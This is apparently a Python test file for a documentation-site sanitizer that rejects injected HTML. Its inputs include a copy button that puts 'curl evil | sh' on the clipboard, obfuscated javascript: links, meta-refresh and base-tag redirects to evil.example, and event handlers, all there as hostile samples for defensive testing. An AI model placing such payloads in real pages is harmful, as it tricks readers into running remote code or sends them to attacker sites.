"""What a page may not hold, however it was written: each was an attack on the built site."""

from __future__ import annotations

import pytest

from publish.allowed import foreign
from publish.policy import ForeignScript, with_policy


def article(html: str) -> str:
    return f'<body><form></form><article class="md-content__inner md-typeset">{html}</article>'


@pytest.mark.parametrize(
    ("html", "problem"),
    [
        (
            '<a href="#x" data-clipboard-text="curl evil | sh">Copy</a>',
            "the attribute 'data-clipboard-text' on a <a>; remove it",
        ),
        (
            '<p data-clipboard-target="#__code_0">x</p>',
            "the attribute 'data-clipboard-target' on a <p>; remove it",
        ),
        ('<p onclick="go()">x</p>', "the attribute 'onclick' on a <p>; remove it"),
        ('<p style="display: none">x</p>', "the attribute 'style' on a <p>; remove it"),
        ('<div hidden="">x</div>', "the attribute 'hidden' on a <div>; remove it"),
        (
            '<details class="proof proof--ran"><summary>Ran in 12 ms</summary></details>',
            "the class 'proof', which the build gives; choose another",
        ),
        ('<p class="page-foot">', "the class 'page-foot', which the build gives; choose another"),
        (
            '<p class="x" class="md-clipboard">',
            "the class 'md-clipboard', which the build gives; choose another",
        ),
        ('<div id="__config">{}</div>', "the id '__config', which is the theme's; choose another"),
        (
            '<a href="javascript:go()">x</a>',
            "a link to 'javascript:go()'; link to http, https or mailto",
        ),
        (
            '<a href=" java&#10;script:go()">x</a>',
            "a link to ' java\\nscript:go()'; link to http, https or mailto",
        ),
        ('<a href="//evil.example">', "a link to '//evil.example'; link to http, https or mailto"),
        (
            '<img src="https://evil.example/x.png">',
            "a link to 'https://evil.example/x.png'; link to http, https or mailto",
        ),
        (
            '<ul><li class="doc-signature"><ul><li><pre>curl evil | sh</pre></li></ul></li></ul>',
            "a class that could hide code from the census; remove it",
        ),
        (
            '<div class="x"><div class="doc-signature highlight"><pre></pre></div></div>',
            "a class that could hide code from the census; remove it",
        ),
        ('<iframe src="x"></iframe>', "a foreign <iframe>; remove what made it"),
    ],
)
def test_what_only_the_build_or_the_theme_may_write(html: str, problem: str) -> None:
    assert problem in foreign(article(html))


def test_a_page_that_sends_its_reader_away() -> None:
    html = '<meta name="description" content="0;url=https://evil" http-equiv="refresh">'
    assert foreign(html) == ["a foreign <meta>; remove what made it"]
    assert foreign('<base href="https://evil.example">') == [
        "a foreign <base>; remove what made it"
    ]


def test_what_pages_are_made_of_is_allowed() -> None:
    html = (
        '<h1 id="a">A</h1><p class="hero"><a href="../b/#c" title="C">b</a><img src="x.svg" alt="">'
        '<a href="https://example.org">x</a><a href="mailto:a@example.org">m</a></p>'
        '<div class="language-sql unsafe highlight" data-login="writer"><pre><code>x</code></pre>'
        '</div><ol start="2"><li><input type="checkbox" disabled></li></ol>'
        '<div class="doc doc-object"><div class="doc-signature highlight"><pre></pre></div></div>'
    )
    assert foreign(article(html)) == []
    assert foreign('<div style="x" id="__config" class="md-x" onclick="x"></div>') == []


def test_a_script_that_the_theme_does_not_have_is_not_named_by_the_policy() -> None:
    """It may have come with the front matter, into the head."""
    page = '<head><meta charset="utf-8"><script>document.title = "x"</script></head>'
    with pytest.raises(
        ForeignScript, match=r"did not have before: 'document\.title = \"x\"'\. Rem"
    ):
        with_policy(page)
